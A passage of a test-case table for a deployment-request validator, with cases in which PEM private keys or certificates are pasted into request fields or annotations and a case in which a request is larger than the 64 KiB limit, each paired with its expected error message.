      build: set(["certificate", "source", "secretsManager", "secretId"], oneLineKey),
    },
    {
      case: "pem-key-as-field",
      category: "PEM in request",
      tests: "certificate.privateKey holding the PEM key (multi-line)",
      path: "certificate.privateKey",
      contains: "looks like PEM material",
      pastedKey: pastedKeyFile,
      build: set(["certificate", "privateKey"], pastedKeyPem),
    },
    {
      case: "pem-certificate-as-arn",
      category: "PEM in request",
      tests: "the certificate PEM pasted into certificate.arn",
      path: "certificate.arn",
      contains: "looks like PEM material",
      build: set(["certificate", "arn"], certPem),
    },
    {
      case: "pem-key-in-annotation",
      category: "PEM in request",
      tests: "a private key (one line) in an annotation value",
      path: annotationPath("auth-idp-oidc"),
      contains: "looks like PEM material",
      pastedKey: pastedKeyFile,
      build: annotation("auth-idp-oidc", JSON.stringify({ issuer: "https://idp.example", clientSecret: oneLineKey })),
    },

    // --- size -------------------------------------------------------------------------------------------------
    {
      case: "oversized",
      category: "size",
      tests: "a request of ~70 KiB (the limit is 64 KiB of compact JSON)",
      path: "",
      contains: "a deployment request may be at most 65536",
      build: annotation("tags", Array.from({ length: 3000 }, (_, i) => `team-${String(i).padStart(4, "0")}=milvus-platform`).join(",")),
    },
  ];
}
